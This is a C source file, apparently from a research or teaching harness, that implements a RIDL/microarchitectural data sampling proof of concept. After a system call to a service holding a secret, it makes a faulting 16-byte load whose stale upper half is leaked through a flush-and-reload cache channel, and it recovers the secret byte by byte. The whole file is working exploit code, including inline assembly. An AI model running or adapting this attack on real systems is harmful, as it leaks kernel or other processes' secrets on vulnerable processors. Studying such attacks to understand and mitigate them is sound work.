/*
 * Microarchitectural load port data sampling (van Schaik et al., "RIDL", 2019; Intel, "Microarchi-
 * tectural Data Sampling"): a faulting load of more than eight bytes receives what a load port
 * delivered last. Shorter loads in between leave the upper half of a port as it was, so the upper
 * half of the last long load survives a system call. The secret's owner compares 16 bytes at a time
 * from a place that the request names; with eight bytes before the wanted one, that is in the upper
 * half.
 */
#include "attack.h"

#include <sys/mman.h>

#include "channel.h"
#include "fault.h"
#include "secret.h"

enum { PAGE_BYTES = 4096, HALF_PORT = 8 };

static const uint8_t *probe, *denied;

/* A system call, then a faulting load of 16 bytes, of which byte 8 is sent. */
static void call_and_send_long_load(long number, long first, const void *second, long third)
{
	register const uint8_t *address_register __asm__("r9") = denied;
	register const uint8_t *probe_register __asm__("r8") = probe;

	__asm__ volatile(
		RESUME_AT_9
		"mov %[number], %%rax\n\t"
		"syscall\n\t"
		"movdqu (%[address]), %%xmm0\n\t"
		"psrldq $8, %%xmm0\n\t"
		"movq %%xmm0, %%rax\n\t"
		"movzbl %%al, %%eax\n\t"
		SEND_BYTE
		RESUMED
		:
		: [number] "r"(number), "D"(first), "S"(second), "d"(third), [address] "r"(address_register),
		  [probe] "r"(probe_register)
		: "rax", "rcx", "r11", "xmm0", "memory", "cc");
}

static int sample(int index)
{
	uint8_t answer;

	flush_probe(probe);
	send_guess(index - HALF_PORT);
	call_and_send_long_load(SYS_read, answers_of_service, &answer, 1);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	open_secret();
	if (options.call)
		errx(2, "expected --service");
	catch_faults();
	calibrate();
	probe = own_probe();
	denied = mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (denied == MAP_FAILED)
		err(1, "mmap");
	recover(sample, (struct patience){ .samples = 60, .lead = 3 }, 1);
	return 0;
}
